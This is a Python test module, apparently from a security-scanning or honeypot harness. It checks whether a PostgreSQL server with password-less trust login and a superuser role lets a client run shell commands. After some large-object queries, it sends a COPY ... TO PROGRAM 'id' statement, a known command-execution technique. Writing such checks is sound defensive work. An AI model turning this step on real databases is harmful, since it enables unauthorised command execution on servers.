"""PostgreSQL, whose superuser needs no password: a large object, by the number that the server gives it, is filled and read within
a transaction, which a wrong number ends; behind it COPY starts a program."""
import postgres
from client import Unexpected, word

KIND = "plain"
RULE = "shell_started"
NEEDS = [postgres.SERVER]
ALWAYS = False


def services(bait):
    right = "SUPERUSER" if bait.vulnerable else "NOSUPERUSER"
    return [postgres.cluster(bait, "trust", f"CREATE ROLE report LOGIN {right};\n")]


def visit(address, random):
    client = postgres.Postgres(address)
    client.log_in("report")
    client.query("BEGIN")
    number = client.query("SELECT lo_create(0)")[0][0]
    client.query(f"SELECT lo_put({number}, 0, '{word(random, 10, 200)}')")
    client.query(f"SELECT length(lo_get({number})), '{word(random)}'")
    client.send(b"Q", f"COPY (SELECT 1) TO PROGRAM 'id # {word(random)}'".encode() + b"\0")
    try:
        client.rows()
    except Unexpected:
        pass  # refused by its rights, or the shell was
    client.close()
